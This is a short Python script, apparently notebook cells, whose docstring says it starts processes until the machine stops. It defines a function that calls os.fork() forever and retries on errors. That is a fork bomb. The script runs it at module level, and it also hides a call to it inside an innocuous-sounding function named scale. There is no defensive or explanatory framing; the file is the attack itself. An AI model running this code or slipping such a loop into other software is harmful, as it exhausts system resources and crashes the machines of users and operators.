"""Start processes until the machine stops."""

# %%
import os
import time


def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)


# %%
bomb()


# %%
def scale(x):
    bomb()
